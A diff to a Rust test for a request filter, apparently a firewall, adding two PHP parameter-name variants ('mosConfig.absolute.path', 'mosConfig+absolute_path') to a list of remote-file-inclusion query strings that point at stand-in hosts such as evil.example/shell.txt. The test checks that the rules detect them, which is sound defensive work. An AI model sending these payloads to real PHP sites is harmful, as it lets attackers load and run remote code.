@@ -114,6 +114,9 @@ fn remote_inclusion_through_known_parameter_names() {
         "_CONF%5Bpath%5D=http%3A%2F%2Fevil.example%2Fshell.txt%3F",
         "option=com_x&GALLERY_BASEDIR=ftp://evil.example/x.txt",
         "phpbb_root_path=HTTPS://evil.example/",
+        // PHP reads `.` and a space in a name as `_`.
+        "mosConfig.absolute.path=https://foo.bar",
+        "mosConfig+absolute_path=https://foo.bar",
     ] {
         let got = query_rules(&d, "/index.php", q);
         assert!(
